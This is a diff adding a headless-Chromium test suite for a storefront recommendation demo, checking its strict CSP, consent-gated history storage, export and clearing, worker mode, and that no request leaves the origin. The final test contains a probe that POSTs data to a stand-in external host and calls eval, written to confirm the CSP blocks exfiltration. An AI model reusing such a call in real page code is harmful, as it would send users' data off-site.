@@ -1,0 +1,327 @@
+// The storefront demo (demo/, served by scripts/serve.mjs under its strict CSP) in headless Chromium.
+import assert from 'node:assert/strict';
+import { readFileSync, statSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, before, test } from 'node:test';
+
+import { Forecart as NodeForecart } from '../../web/node.js';
+import {
+  dataset, doAction, ensureResultsDir, grantConsent, idle, launchBrowser, newContext, openGridItem, prepareModels, ready,
+  shownPrediction, startServer, storedEvents, watch,
+} from './helpers.mjs';
+
+let models, server, browser;
+
+before(async () => {
+  models = prepareModels();
+  server = await startServer(models.dir);
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  await server?.stop();
+  models?.cleanup();
+});
+
+// What the library itself predicts for a history (the Node entry, same WASM): the page must show it.
+async function expectedFor(events, k = 10) {
+  const fc = await NodeForecart.load(models.bytes);
+  try {
+    for (const e of events) await fc.record(e);
+    return fc.predict({ k });
+  } finally {
+    fc.dispose();
+  }
+}
+
+test('loads under the strict CSP with no console errors, WASM SIMD kernels and a first prediction', async () => {
+  const context = await newContext(browser);
+  const page = await context.newPage();
+  const errors = watch(page);
+  const response = await page.goto(server.url);
+  assert.equal(response.status(), 200);
+  const csp = response.headers()['content-security-policy'];
+  assert.match(csp, /default-src 'self'/);
+  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
+  assert.match(csp, /connect-src 'self'/);
+  assert.doesNotMatch(csp, /unsafe-eval'|unsafe-inline/);
+  assert.equal(response.headers()['x-content-type-options'], 'nosniff');
+  await ready(page);
+  const ds = await dataset(page);
+  assert.equal(ds.kernels, 'wasmsimd');
+  assert.equal(ds.mode, 'main');
+  assert.equal(ds.consent, 'required'); // first visit: nothing is recorded until the shopper allows it
+  const firstMs = Number(ds.firstPredictionMs);
+  assert.ok(firstMs > 0 && firstMs < 15000, `first prediction at ${ds.firstPredictionMs} ms`);
+  const shown = await shownPrediction(page);
+  assert.equal(shown.items.length, 10);
+  assert.equal(shown.fromPopularity, true);
+  const expected = await expectedFor([]);
+  assert.deepEqual(shown.items.map((x) => x.item), expected.items.map((x) => x.item));
+  assert.equal(await page.locator('#grid li').count(), 24);
+  assert.match(await page.textContent('#privacy-note'), /Nothing leaves this device/);
+  // Accessibility basics: every control is a real button/checkbox with a name.
+  for (const id of ['consent', 'worker-mode']) assert.ok(await page.locator(`label[for="${id}"]`).count());
+  const unnamed = await page.evaluate(() => [...document.querySelectorAll('button')].filter((b) => !(b.getAttribute('aria-label') || b.textContent.trim())).length);
+  assert.equal(unnamed, 0);
+  assert.deepEqual(errors, []);
+  writeFileSync(join(ensureResultsDir(), 'demo-metrics.json'), `${JSON.stringify({ firstPredictionMs: firstMs, predictLatencyMs: Number(ds.latencyMs) }, null, 2)}\n`);
+  console.log(`# page load to first prediction: ${firstMs} ms (headless Chromium, main thread), predict(): ${ds.latencyMs} ms`);
+  await context.close();
+});
+
+test('clicking items records events and the predictions follow the recorded history', async () => {
+  const context = await newContext(browser);
+  const page = await context.newPage();
+  const errors = watch(page);
+  await page.goto(server.url);
+  await ready(page);
+  await grantConsent(page);
+  const popular = await shownPrediction(page);
+
+  const a = await openGridItem(page, 0);
+  let stored = await storedEvents(page);
+  assert.deepEqual(stored.events.map((e) => [e.item, e.action]), [[a, 'pv']]);
+  let shown = await shownPrediction(page);
+  assert.equal(shown.fromPopularity, false);
+  assert.notDeepEqual(shown.items.map((x) => x.item), popular.items.map((x) => x.item));
+  assert.deepEqual(shown.items.map((x) => x.item), (await expectedFor(stored.events)).items.map((x) => x.item));
+  // The explanation of the chosen recommendation is made of the shopper's own events.
+  assert.deepEqual(shown.explanation.map((e) => e.item), [a]);
+
+  const b = await openGridItem(page, 5);
+  await doAction(page, 'cart');
+  const before = shown;
+  shown = await shownPrediction(page);
+  stored = await storedEvents(page);
+  assert.deepEqual(stored.events.map((e) => [e.item, e.action]), [[a, 'pv'], [b, 'pv'], [b, 'cart']]);
+  assert.notDeepEqual(shown.actions, before.actions);
+  const expected = await expectedFor(stored.events);
+  assert.deepEqual(shown.items.map((x) => x.item), expected.items.map((x) => x.item));
+  shown.items.forEach((x, i) => assert.ok(Math.abs(x.score - expected.items[i].score) < 1e-6));
+  for (const [name, p] of Object.entries(expected.actions)) assert.ok(Math.abs(shown.actions[name] - p) < 1e-6, name);
+  assert.deepEqual(new Set(shown.explanation.map((e) => `${e.item}:${e.action}`)), new Set([`${a}:pv`, `${b}:pv`, `${b}:cart`]));
+
+  // A recommended item is clickable: it opens and records a view; "Why?" explains another item.
+  const rec = shown.items[2].item;
+  await page.click(`#predictions li[data-item="${rec}"] button.rec`);
+  await page.waitForSelector(`#product[data-item="${rec}"]`);
+  await idle(page);
+  assert.equal((await storedEvents(page)).events.at(-1).item, rec);
+  const target = (await shownPrediction(page)).items[1].item;
+  await page.click(`#predictions li[data-item="${target}"] button.why`);
+  await idle(page);
+  shown = await shownPrediction(page);
+  assert.equal(shown.explainItem, target);
+  assert.equal(shown.explanation.length, 4);
+  assert.equal(await page.getAttribute(`#predictions li[data-item="${target}"] button.why`, 'aria-pressed'), 'true');
+  await doAction(page, 'fav');
+  assert.equal(await page.getAttribute('body', 'data-history-count'), '5');
+
+  const shot = join(ensureResultsDir(), 'demo-after-events.png');
+  await page.screenshot({ path: shot, fullPage: true });
+  assert.ok(statSync(shot).size > 20000);
+  console.log(`# screenshot: ${shot}`);
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('a reload keeps the history and the predictions; export downloads it; clear wipes it', async () => {
+  const context = await newContext(browser);
+  const page = await context.newPage();
+  const errors = watch(page);
+  await page.goto(server.url);
+  await ready(page);
+  await grantConsent(page);
+  await openGridItem(page, 1);
+  await openGridItem(page, 2);
+  await doAction(page, 'buy');
+  await openGridItem(page, 3);
+  const before = await shownPrediction(page);
+  await page.reload();
+  await ready(page);
+  assert.equal(await page.getAttribute('body', 'data-history-count'), '4');
+  assert.equal(await page.isChecked('#consent'), true);
+  assert.deepEqual(await shownPrediction(page), before);
+
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-history')]);
+  assert.match(download.suggestedFilename(), /^forecart-history-.*\.json$/);
+  const exported = JSON.parse(readFileSync(await download.path(), 'utf8'));
+  assert.equal(exported.format, 'forecart-history');
+  assert.equal(exported.namespace, 'forecart-demo');
+  assert.deepEqual(exported.events, (await storedEvents(page)).events);
+  assert.equal(exported.events.length, 4);
+
+  await page.click('#clear-history');
+  await idle(page);
+  assert.equal(await page.getAttribute('body', 'data-history-count'), '0');
+  assert.deepEqual((await storedEvents(page)).events, []);
+  assert.equal((await shownPrediction(page)).fromPopularity, true);
+  await page.reload();
+  await ready(page);
+  assert.equal(await page.getAttribute('body', 'data-history-count'), '0');
+  assert.equal((await shownPrediction(page)).fromPopularity, true);
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('with consent required nothing is stored before consent; the choice persists; revoking erases', async () => {
+  const context = await newContext(browser);
+  const page = await context.newPage();
+  const errors = watch(page);
+  await page.goto(server.url);
+  await ready(page);
+  assert.equal(await page.isChecked('#consent'), false);
+  await openGridItem(page, 0);
+  await doAction(page, 'cart');
+  await openGridItem(page, 4);
+  assert.match(await page.textContent('#product-recorded'), /not recorded/);
+  assert.deepEqual((await storedEvents(page)).events, []);
+  assert.equal((await shownPrediction(page)).fromPopularity, true);
+  assert.equal(await page.evaluate(() => localStorage.getItem('forecart-demo:consent')), null);
+
+  await grantConsent(page);
+  const item = await openGridItem(page, 7);
+  assert.deepEqual((await storedEvents(page)).events.map((e) => e.item), [item]);
+  await page.reload();
+  await ready(page);
+  assert.equal(await page.isChecked('#consent'), true);
+  assert.equal(await page.getAttribute('body', 'data-history-count'), '1');
+
+  await page.uncheck('#consent');
+  await page.waitForSelector('body[data-consent="required"][data-idle="true"]');
+  assert.deepEqual((await storedEvents(page)).events, []);
+  assert.equal(await page.evaluate(() => localStorage.getItem('forecart-demo:consent')), 'revoked');
+  await page.reload();
+  await ready(page);
+  assert.equal(await page.isChecked('#consent'), false);
+  await openGridItem(page, 2);
+  assert.deepEqual((await storedEvents(page)).events, []);
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('two tabs recording at the same time lose no event', async () => {
+  const context = await newContext(browser);
+  const [a, b] = [await context.newPage(), await context.newPage()];
+  const errors = [...[a, b].map((p) => watch(p))];
+  await a.goto(server.url);
+  await ready(a);
+  await grantConsent(a);
+  await b.goto(server.url); // the consent choice is shared through localStorage
+  await ready(b, '[data-consent="granted"]');
+  const N = 25;
+  // Both tabs click N catalogue cards as fast as they can, at the same time.
+  const burst = (page, offset) => page.evaluate(([n, off]) => {
+    const cards = [...document.querySelectorAll('#grid button.card')];
+    for (let i = 0; i < n; i++) cards[(off + i) % cards.length].click();
+  }, [N, offset]);
+  await Promise.all([burst(a, 0), burst(b, 11)]);
+  await Promise.all([idle(a), idle(b)]);
+  const stored = await storedEvents(a);
+  assert.equal(stored.events.length, 2 * N);
+  await a.reload();
+  await ready(a);
+  assert.equal(await a.getAttribute('body', 'data-history-count'), String(2 * N));
+  assert.deepEqual(errors.flat(), []);
+  await context.close();
+});
+
+test('Web Worker mode shows the same predictions as the main thread', async () => {
+  const context = await newContext(browser);
+  const page = await context.newPage();
+  const errors = watch(page);
+  const workerScripts = [];
+  context.on('request', (r) => r.url().endsWith('/web/worker-host.js') && workerScripts.push(r.url()));
+  await page.goto(server.url);
+  await ready(page);
+  await grantConsent(page);
+  await openGridItem(page, 3);
+  await doAction(page, 'fav');
+  await openGridItem(page, 9);
+  await doAction(page, 'cart');
+  const main = await shownPrediction(page);
+
+  await page.check('#worker-mode');
+  await ready(page, '[data-mode="worker"]');
+  assert.equal(workerScripts.length, 1);
+  assert.equal(await page.getAttribute('body', 'data-kernels'), 'wasmsimd');
+  assert.deepEqual(await shownPrediction(page), main);
+
+  // Recording in the worker, then back on the main thread: still the same.
+  await openGridItem(page, 12);
+  await doAction(page, 'buy');
+  const inWorker = await shownPrediction(page);
+  assert.notDeepEqual(inWorker, main);
+  const expected = await expectedFor((await storedEvents(page)).events);
+  assert.deepEqual(inWorker.items.map((x) => x.item), expected.items.map((x) => x.item));
+  await page.reload(); // the mode is remembered
+  await ready(page, '[data-mode="worker"]');
+  assert.deepEqual(await shownPrediction(page), inWorker);
+  await page.uncheck('#worker-mode');
+  await ready(page, '[data-mode="main"]');
+  assert.deepEqual(await shownPrediction(page), inWorker);
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('no request leaves the origin: only the demo files, the package files, the .wasm and the model', async () => {
+  const context = await newContext(browser);
+  const page = await context.newPage();
+  const errors = watch(page);
+  const requests = [];
+  context.on('request', (r) => requests.push(r));
+  await page.goto(server.url);
+  await ready(page);
+  await grantConsent(page);
+  await openGridItem(page, 0);
+  await doAction(page, 'cart');
+  await page.click('#next-page');
+  await idle(page);
+  await openGridItem(page, 1);
+  await page.click('#product-category');
+  await idle(page);
+  await page.check('#worker-mode');
+  await ready(page, '[data-mode="worker"]');
+  await openGridItem(page, 2);
+  await page.reload();
+  await ready(page);
+  assert.deepEqual(errors, []);
+
+  const allowed = [/^\/demo\/$/, /^\/demo\/(app\.js|style\.css|favicon\.svg)$/, /^\/web\/[a-z-]+\.js$/, /^\/dist\/forecart\.(mjs|wasm)$/, /^\/demo\/models\/taobao\.fcm$/];
+  assert.ok(requests.length > 10);
+  const paths = new Set();
+  for (const r of requests) {
+    const url = new URL(r.url());
+    assert.equal(url.origin, server.origin, `request to another origin: ${r.url()}`);
+    assert.ok(allowed.some((re) => re.test(url.pathname)), `unexpected request ${url.pathname}`);
+    assert.equal(url.search, '');
+    assert.equal(r.method(), 'GET');
+    const res = await r.response();
+    assert.ok(res && [200, 304].includes(res.status()), `${url.pathname}: ${res?.status()}`);
+    if (url.pathname.endsWith('.wasm')) assert.equal(res.headers()['content-type'], 'application/wasm');
+    paths.add(url.pathname);
+  }
+  for (const p of ['/dist/forecart.wasm', '/demo/models/taobao.fcm', '/web/worker-host.js']) assert.ok(paths.has(p), p);
+
+  // The CSP itself blocks exfiltration and eval, whatever a script on the page tries.
+  const probe = await page.evaluate(async () => {
+    const out = {};
+    try {
+      await fetch('http://example.invalid/collect', { method: 'POST', body: 'x' });
+      out.fetch = 'sent';
+    } catch (e) {
+      out.fetch = e.name;
+    }
+    try {
+      out.eval = (0, eval)('1 + 1');
+    } catch (e) {
+      out.eval = e.name;
+    }
+    return out;
+  });
+  assert.deepEqual(probe, { fetch: 'TypeError', eval: 'EvalError' });
+  assert.equal(requests.filter((r) => !r.url().startsWith(server.origin)).length, 0);
+  await context.close();
+});
